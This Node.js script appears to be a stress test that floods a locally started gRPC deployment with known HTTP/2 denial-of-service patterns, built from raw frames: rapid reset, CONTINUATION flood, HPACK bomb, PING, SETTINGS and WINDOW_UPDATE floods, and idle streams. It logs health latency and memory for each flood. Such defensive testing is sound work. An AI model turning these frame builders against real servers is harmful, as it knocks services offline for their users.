import net from "node:net";
import { startDeployment, deployments } from "./dist/harness/deployment.js";
import { startUpstream, panel } from "./dist/harness/upstream.js";
import { processesOf, residentBytes } from "./dist/harness/processes.js";
import { get } from "./dist/harness/api.js";
const upstream = await startUpstream();
const synod = await startDeployment(deployments[0], { env: upstream.env, config: panel() });
const [host, port] = synod.grpcAddress.split(":");
const pids = processesOf(synod);
const frame = (type, flags, id, payload = Buffer.alloc(0)) => { const h = Buffer.alloc(9); h.writeUIntBE(payload.length, 0, 3); h[3]=type; h[4]=flags; h.writeUInt32BE(id, 5); return Buffer.concat([h, payload]); };
const preface = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4,0,0)]);
const lit = (n, v) => { const N=Buffer.from(n), V=Buffer.from(v); const len=(l)=> l<127?Buffer.from([l]): (()=>{ const out=[127]; let r=l-127; while(r>=128){out.push((r&127)|128); r>>=7;} out.push(r); return Buffer.from(out);})(); return Buffer.concat([Buffer.from([0]), len(N.length), N, len(V.length), V]); };
const head = (path) => Buffer.concat([Buffer.from([0x83,0x86]), lit(":path", path), lit(":authority","x"), lit("content-type","application/grpc+proto"), lit("te","trailers")]);
async function flood(name, make, { max = 200_000, ms = 6000 } = {}) {
  const before = residentBytes(pids);
  const s = net.connect(Number(port), host); let got = Buffer.alloc(0), closed = false, n = 0, worst = 0;
  s.on("data", d => { if (got.length < 100_000) got = Buffer.concat([got, d]); }); s.on("error", () => {}); s.on("close", () => closed = true);
  await new Promise(r => s.on("connect", r));
  s.write(preface);
  const end = performance.now() + ms; let probing = true; let peak = before;
  const probe = (async () => { while (probing) { const t = performance.now(); await get(`${synod.url}/healthz`); worst = Math.max(worst, performance.now() - t); peak = Math.max(peak, residentBytes(pids)); await new Promise(r => setTimeout(r, 20)); } })();
  while (!closed && n < max && performance.now() < end) { const chunk = make(n, s); if (chunk === null) { await new Promise(r => setTimeout(r, 50)); continue; } n += 1; if (!s.write(chunk)) await Promise.race([new Promise(r => s.once("drain", r)), new Promise(r=>s.once("close", r)), new Promise(r=>setTimeout(r,1000))]); else if (n % 50 === 0) await new Promise(r => setImmediate(r)); }
  await new Promise(r => setTimeout(r, 300));
  const types = []; let o = 0; while (o + 9 <= got.length) { const l = got.readUIntBE(o,3); types.push(got[o+3] + (got[o+3]===7 ? `(goaway ${got.readUInt32BE(o+9+4)})`:"")); o += 9 + l; }
  console.log("##", name, "sent", n, "closed", closed, "worst healthz", worst.toFixed(0), "RSS +", ((peak - before)/2**20).toFixed(1), "frames:", JSON.stringify(Object.fromEntries(types.reduce((m,t)=>m.set(t,(m.get(t)??0)+1), new Map()))));
  s.destroy(); probing = false; await probe; await new Promise(r=>setTimeout(r,300));
}
const P = "/synod.chat.v1.ChatService/Chat";
await flood("rapid reset", (i) => { const id = 2*i+1; return Buffer.concat([frame(1,4,id,head(P)), frame(3,0,id,Buffer.from([0,0,0,8]))]); }, {max: 100000});
await flood("continuation", (i) => i === 0 ? frame(1,0,1,head(P)) : frame(9,0,1,lit(`x-${i}`, "y".repeat(100))));
await flood("ping", (i) => frame(6,0,0,Buffer.alloc(8)));
await flood("settings", (i) => frame(4,0,0,Buffer.from([0,3,0,0,0,100])));
await flood("empty data", (i) => i === 0 ? frame(1,4,1,head(P)) : frame(0,0,1));
await flood("hpack bomb", (i) => { // one big dynamic entry, referenced often
  if (i === 0) { const V = Buffer.alloc(3000, 120); const b = Buffer.concat([Buffer.from([0x83,0x86]), lit(":path", P), lit(":authority","x"), Buffer.from([0x40]), Buffer.from([1]), Buffer.from("b"), Buffer.from([127, ...(()=>{let r=3000-127,o=[];while(r>=128){o.push((r&127)|128);r>>=7}o.push(r);return o})()]), V]); return frame(1,4,1,b); }
  return frame(1,5,2*i+1, Buffer.concat([Buffer.from([0x83,0x86]), lit(":path", P), lit(":authority","x"), Buffer.alloc(10000, 0x80|62)])); }, {max: 2000});
await flood("priority", (i) => frame(2,0,1,Buffer.from([0,0,0,3,1])));
await flood("window update", (i) => frame(8,0,0,Buffer.from([0,0,0,1])), {max: 50000});
await flood("1000 silent streams", (i) => i < 1000 ? frame(1,4,2*i+1,head(P)) : null);
console.log("calls", upstream.calls().length, synod.output().split("\n").filter(l=>/Warning|"level":"(error|warn)/.test(l)).slice(0,5));
await synod.stop(); await upstream[Symbol.asyncDispose]();
